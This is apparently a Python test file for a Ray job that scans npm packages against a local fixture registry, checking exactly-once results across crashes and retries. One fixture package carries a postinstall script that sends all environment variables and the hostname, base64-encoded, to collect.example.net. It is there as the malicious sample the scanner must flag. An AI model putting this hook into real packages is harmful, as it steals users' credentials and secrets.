"""The Ray job end to end, on a local Ray cluster with 2 workers (one CPU each), against a
fixture registry and ``_changes`` feed on 127.0.0.1. Never reaches the internet.

Run by ``crates/diligence/tests/ray_job.rs`` (``cargo test``) with the venv that
``scripts/install-test-ray.sh`` builds, or by hand:

    DILIGENCE_BIN=target/debug/diligence target/ray-venv/bin/python -m unittest \\
        discover -s deploy/ray/tests -v

``DILIGENCE_BIN`` is the ``diligence`` binary under test.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import tempfile
import time
import unittest
from pathlib import Path

HERE = Path(__file__).resolve().parent
JOB = HERE.parent / "diligence_ray.py"
sys.path.insert(0, str(HERE))
sys.path.insert(0, str(HERE.parent))

from fixture_registry import FixtureRegistry, make_tarball  # noqa: E402

import diligence_ray  # noqa: E402

# An inert package that reads like an install-time exfiltration (never executed): the one
# non-clean verdict of the fixture feed.
TELEMETRY = {
    "package.json": json.dumps({"name": "fixture-telemetry", "version": "1.0.0",
                                "main": "index.js",
                                "scripts": {"postinstall": "node setup.js"}}),
    "setup.js": (
        'const https = require("https");\n'
        'const os = require("os");\n'
        "const data = JSON.stringify({ env: process.env, host: os.hostname() });\n"
        'const req = https.request({ hostname: "collect.example.net", method: "POST" });\n'
        'req.write(Buffer.from(data).toString("base64"));\n'
        "req.end();\n"
    ),
    "index.js": "module.exports = 1;\n",
}

# The feed: every fixture package once, `ms` and `wrappy` changed twice (scanned once), and a
# package the registry does not have (no spec).
CHANGES = ["ms", "wrappy", "is-docker", "slash", "ms", "@types/json5", "escape-html",
           "@protobufjs/inquire", "fixture-telemetry", "shebang-command", "wrappy", "is-wsl",
           "no-such-package", "@babel/plugin-syntax-json-strings"]


def diligence_bin() -> str:
    path = os.environ.get("DILIGENCE_BIN")
    if not path or not os.access(path, os.X_OK):
        raise unittest.SkipTest("DILIGENCE_BIN is not set to the diligence binary")
    return path


def parquet_rows(out: Path) -> list[dict]:
    import pyarrow.parquet as pq

    return pq.read_table(out).to_pylist() if any(out.glob("date=*/*.parquet")) else []


def direct_scan(binary: str, specs: list[str], npmrc: Path, cache: Path) -> dict:
    """``diligence scan --format json`` on the specs, run directly: {package: (verdict,
    score, sorted (rule, severity, file, line))}. Reads both the array of scans and the
    diligence.report/1 document."""
    with tempfile.TemporaryDirectory() as work:
        (Path(work) / ".npmrc").write_text(npmrc.read_text())
        env = dict(os.environ, DILIGENCE_CACHE_DIR=str(cache),
                   npm_config_userconfig=str(Path(work) / "none"),
                   npm_config_globalconfig=str(Path(work) / "none"))
        p = subprocess.run([binary, "scan", "--format", "json", *specs], cwd=work, env=env,
                           capture_output=True, text=True, timeout=300)
    assert p.returncode in (0, 1), p.stderr
    doc = json.loads(p.stdout)
    out = {}
    if isinstance(doc, list):
        for s in doc:
            out[s["package"]] = (s["verdict"], s["score"], sorted(
                (f["rule"], f["severity"], f["file"], f["line"]) for f in s["findings"]))
        return out
    for v in doc["packages"]:
        pkg = v["package"]
        key = f"{pkg['name']}@{pkg['version']}"
        found = sorted(
            (f["rule"], f["severity"], (f.get("location") or {}).get("file"),
             (f.get("location") or {}).get("line"))
            for f in doc["findings"]
            if (f.get("package") or {}).get("name") == pkg["name"]
            and (f.get("package") or {}).get("version") == pkg["version"])
        out[key] = (v["verdict"], v["score"], found)
    return out


class RayJobTest(unittest.TestCase):
    def setUp(self):
        self.binary = diligence_bin()
        self.tmp = tempfile.TemporaryDirectory(prefix="diligence-ray-test-")
        self.dir = Path(self.tmp.name)
        self.registry = FixtureRegistry(HERE / "fixtures" / "tarballs", CHANGES)
        self.telemetry = self.registry.add(make_tarball(TELEMETRY))
        self.registry.start()
        self.npmrc = self.dir / "npmrc"
        self.npmrc.write_text(f"registry={self.registry.url}\n")
        self.expected = sorted(
            f"{name}@{doc['dist-tags']['latest']}"
            for name, doc in self.registry.packages.items())

    def tearDown(self):
        self.registry.stop()
        self.tmp.cleanup()

    def job(self, *extra: str, env: dict | None = None) -> subprocess.CompletedProcess:
        """Runs the job as its own process group (a killed driver leaves no Ray process)."""
        cmd = [sys.executable, str(JOB), "--changes", self.registry.url + "_changes",
               "--changes-limit", "5", "--out", str(self.dir / "out"),
               "--state", str(self.dir / "state"), "--npmrc", str(self.npmrc),
               "--cache-dir", str(self.dir / "cache"), "--diligence", self.binary,
               "--workers", "2", "--batch-size", "2", *extra]
        proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                text=True, start_new_session=True,
                                env=dict(os.environ, RAY_USAGE_STATS_ENABLED="0",
                                         **(env or {})))
        try:
            stdout, stderr = proc.communicate(timeout=300)
        finally:
            try:
                os.killpg(proc.pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        return subprocess.CompletedProcess(cmd, proc.returncode, stdout, stderr)

    def test_exactly_once_across_worker_kill_and_job_restart(self):
        started = time.monotonic()
        # Run 1: an actor process dies (SIGKILL) on its first batch (Ray restarts it, the batch
        # is retried); the driver is SIGKILLed right after writing its 3rd batch (the first of
        # the second feed page), before the feed checkpoint moves past that page.
        first = self.job("--fault", "actor:1", env={"DILIGENCE_RAY_CRASH_AFTER_BATCHES": "3"})
        self.assertEqual(first.returncode, -signal.SIGKILL, first.stderr[-2000:])
        self.assertTrue((self.dir / "state" / "fault-actor-fired").exists())
        after_crash = parquet_rows(self.dir / "out")
        # Page 1 (4 specs, 2 batches), then one batch of page 2 (1 or 2 specs).
        self.assertIn(len(after_crash), (5, 6))
        self.assertEqual(len({r["spec"] for r in after_crash}), len(after_crash))
        self.assertEqual(sum(r["attempts"] == 2 for r in after_crash), 2)
        checkpoint = json.loads((self.dir / "state" / "checkpoint.json").read_text())
        self.assertEqual(checkpoint["cursor"], 5)

        # Run 2: resumes and finishes; never rescans what run 1 wrote.
        second = self.job()
        self.assertEqual(second.returncode, 0, second.stderr[-2000:])
        summary = json.loads(second.stdout.strip().splitlines()[-1])
        self.assertEqual(summary["scanned"], len(self.expected) - len(after_crash))
        self.assertEqual(summary["errors"], 0)

        rows = parquet_rows(self.dir / "out")
        specs = sorted(r["spec"] for r in rows)
        self.assertEqual(specs, self.expected)  # every spec exactly once
        self.assertTrue(all(r["status"] == "ok" for r in rows))
        self.assertEqual({r["worker"] for r in rows}, {"worker-0", "worker-1"})
        checkpoint = json.loads((self.dir / "state" / "checkpoint.json").read_text())
        self.assertEqual(checkpoint["cursor"], len(CHANGES))

        # The Parquet rows say what `diligence scan` run directly says.
        direct = direct_scan(self.binary, self.expected, self.npmrc, self.dir / "direct-cache")
        got = {r["package"]: (r["verdict"], r["score"], sorted(
            (f["rule"], f["severity"], f["file"], f["line"]) for f in r["findings"]))
            for r in rows}
        self.assertEqual(got, direct)
        self.assertEqual(got[self.telemetry][0], "malicious")
        self.assertEqual(sum(v[0] == "clean" for v in got.values()), len(self.expected) - 1)
        for r in rows:
            doc = self.registry.packages[r["name"]]["versions"][r["version"]]
            self.assertEqual(r["integrity"], doc["dist"]["integrity"])
            self.assertEqual(r["scanned_at"].date().isoformat(), r["date"])

        # Run 3: nothing new in the feed: no batch, no Ray start.
        third = self.job()
        self.assertEqual(third.returncode, 0, third.stderr[-2000:])
        summary = json.loads(third.stdout.strip().splitlines()[-1])
        self.assertEqual((summary["scanned"], summary["batches"]), (0, 0))
        print(f"\nray job test: {len(self.expected)} specs, 2 workers, 3 runs, "
              f"{time.monotonic() - started:.1f} s", file=sys.stderr)

    def test_poison_package_is_isolated_and_recorded(self):
        """A spec whose scan kills the scanner every time: its batch-mates are scanned, it is
        an error row after the retries; nothing is lost or duplicated. Runs in-process on a
        fake pool (no Ray), so it is fast."""
        calls = []

        class FakeRef:
            def __init__(self, value):
                self.value = value

        class FakeActor:
            def __init__(self, name):
                self.name = name
                self.scan = self

            def remote(self, bid, specs):
                calls.append(list(specs))
                if "poison@1.0.0" in specs:
                    return FakeRef(RuntimeError("diligence exited (-9) mid-batch"))
                return FakeRef({"batch": bid, "worker": self.name, "records": [
                    {"spec": s, "status": "ok", "verdict": "clean", "score": 0}
                    for s in specs]})

        import types

        fake_ray = types.SimpleNamespace(
            wait=lambda refs, num_returns: (refs[:1], refs[1:]),
            get=lambda ref: (_ for _ in ()).throw(ref.value)
            if isinstance(ref.value, Exception) else ref.value)
        pool = diligence_ray.Pool(diligence_ray.Config(workers=2, max_retries=1), None)
        pool.actors = [FakeActor("a"), FakeActor("b")]
        pool.free = [0, 1]
        pool.start = lambda: None
        stats = diligence_ray.Stats()
        out = self.dir / "poison-out"
        sys.modules["ray"], saved = fake_ray, sys.modules.get("ray")
        try:
            diligence_ray.run_batches(pool, [["a@1.0.0", "poison@1.0.0"], ["b@1.0.0"]], out,
                                      stats, None)
        finally:
            if saved is not None:
                sys.modules["ray"] = saved
            else:
                del sys.modules["ray"]
        rows = {r["spec"]: r for r in parquet_rows(out)}
        self.assertEqual(sorted(rows), ["a@1.0.0", "b@1.0.0", "poison@1.0.0"])
        self.assertEqual(rows["a@1.0.0"]["status"], "ok")
        self.assertEqual(rows["poison@1.0.0"]["status"], "error")
        self.assertIn("not scanned after 2 attempts", rows["poison@1.0.0"]["error"])
        # 2 attempts as a batch, then each spec alone (the poison one twice).
        self.assertEqual(calls.count(["a@1.0.0", "poison@1.0.0"]), 2)
        self.assertEqual(calls.count(["poison@1.0.0"]), 2)


if __name__ == "__main__":
    unittest.main()
